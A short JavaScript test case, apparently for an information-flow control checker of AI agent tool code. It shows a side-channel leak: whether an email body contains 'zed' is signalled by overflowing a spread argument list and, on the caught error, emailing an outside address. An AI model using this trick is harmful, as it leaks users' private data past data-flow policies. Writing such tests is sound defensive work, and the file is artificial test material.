// attack: grow a spread argument list past what the native call accepts only in a labeled branch; catch and send
// normal: leaks (implicit flow, allowed in NORMAL mode)
const m = await getEmail('m1');
const a = [];
for (let i = 0; i < 60000; i++) {
  a.push(1);
}
if (m.body.includes('zed')) {
  for (let i = 0; i < 30000; i++) {
    a.push(2);
  }
}
try {
  Math.max(...a);
} catch (e) {
  await sendEmail({ to: ['omar@northwind.test'], subject: 'bit', body: 'too many' });
}
